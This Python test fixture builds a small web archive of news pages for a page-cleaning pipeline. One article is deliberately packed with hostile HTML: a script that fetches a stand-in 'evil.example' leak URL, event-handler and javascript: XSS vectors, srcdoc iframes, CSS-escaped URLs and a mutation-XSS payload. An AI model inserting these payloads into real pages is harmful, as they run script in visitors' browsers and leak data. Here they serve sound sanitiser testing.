"""An archive with its WARC: a page that does all that pages should not do, twice, and some that are not shown."""

# ruff: noqa: E501 - tables of hostile text

from __future__ import annotations

import shutil
from pathlib import Path

from pipelines.store import Archive
from pipelines.withholding import withhold
from tests.pipelines.archived import Crawl
from tests.pipelines.pages import SITE, START
from tests.readingroom.archive import METADATA, XSS

HARM = "window.hurt = (window.hurt || 0) + 1; fetch('https://evil.example/leak')"
HEAD = f"""
<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/away">
<link rel="stylesheet" href="https://evil.example/style.css"><link rel="dns-prefetch" href="//evil.example">
<link rel="preload" as="image" href="https://evil.example/early.png"><link rel="icon" href="//evil.example/icon.png">
<script>{HARM}</script><script src="https://evil.example/x.js"></script>
<style>@import "https://evil.example/more.css"; @font-face {{ font-family: x; src: url(https://evil.example/x.woff) }}
body {{ font-family: x; background: url('//evil.example/back.png') #fee }} h1 {{ color: rgb(0, 0, 200) }}</style>
<style>b {{ background: u\\72 l(https://evil.example/escaped.png) }}</style>
"""
TAIL = f"""
<p onclick="{HARM}" style="background-image: image-set('https://evil.example/set.png' 1x)">Press here</p>
<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x" onerror="{HARM}" alt="A picture">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" alt="kept" id="kept">
<picture><source srcset="https://evil.example/z.png"><img src="/own.png"></picture>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>{HARM}</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v" poster="https://evil.example/p.png" autoplay onerror="{HARM}"></video>
<svg onload="{HARM}"><image href="https://evil.example/i.png"/><use href="https://evil.example/u.svg#x"/></svg>
<form action="https://evil.example/post"><input name="q" autofocus onfocus="{HARM}"><button>Send</button></form>
<a id="link" href="/onward">Onward</a> <a id="js" href="javascript:{HARM}">run</a>
<a id="blank" href="https://evil.example/blank" target="_blank" ping="https://evil.example/ping">blank</a>
<noscript><p id="unscripted">Read without scripts</p><img src="https://evil.example/pixel.gif"></noscript>
{XSS}
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HARM}&gt;"></table></math>
"""
BRIDGE = "The council met on Tuesday evening and voted, by nine to four, for the new bridge over the Orrin."
PHARE = (
    "Le phare de la pointe sera rallumé à l’été, après onze hivers, a dit la mairie de Saint-Bréval mardi."
)
SECRET = "A name that should not stand here was printed on Monday, and the court has asked that it go."
TEXT = (("Content-Type", "text/html; charset=utf-8"),)


def story(title: str, sentence: str, *, head: str = "", tail: str = "") -> str:
    """A page of news, such as the cleaner reads it."""
    paragraphs = "".join(
        f"<p>{sentence} It was the {number}th time that anyone asked, and the answer was read out slowly, twice, to a full hall.</p>"
        for number in range(4, 12)
    )
    return (
        f"<!DOCTYPE html><html lang='en'><head><title>{title}</title>"
        f"<meta property='og:type' content='article'>{head}</head><body><main><article><h1>{title}</h1>"
        f"<time datetime='2026-03-01T08:00:00Z'>1 March 2026</time>{paragraphs}</article></main>{tail}</body></html>"
    )


def build(folder: Path) -> Path:
    """Two versions of one article and its end; one in windows-1252; one that is withheld; a section page."""
    with Crawl(folder) as first:
        first.get("bridge", story("Bridge approved", BRIDGE, head=HEAD, tail=TAIL).encode(), headers=TEXT)
        first.get("phare", story("Le phare rallumé", PHARE).encode("windows-1252"),
                  headers=(("Content-Type", "text/html; charset=windows-1252"),))  # fmt: skip
        first.get("secret", story("A secret", SECRET).encode())
        first.get(
            "section",
            b"<html><title>News</title><ul>" + b"<li><a href=/bridge>Bridge</a>" * 30,
            role="listing",
        )
    with Crawl(folder, day=1) as second:
        second.get("bridge", story("Bridge approved at last", BRIDGE + " A second span is planned.").encode())
        second.get("phare", status=304, headers=())
        second.get("bridge", status=404)
    with Archive.open(folder) as archive:
        withhold(archive, f"{SITE.url}secret", "asked to", START)
        archive.commit()
    shutil.copy(METADATA, folder / "metadata.yml")
    return folder
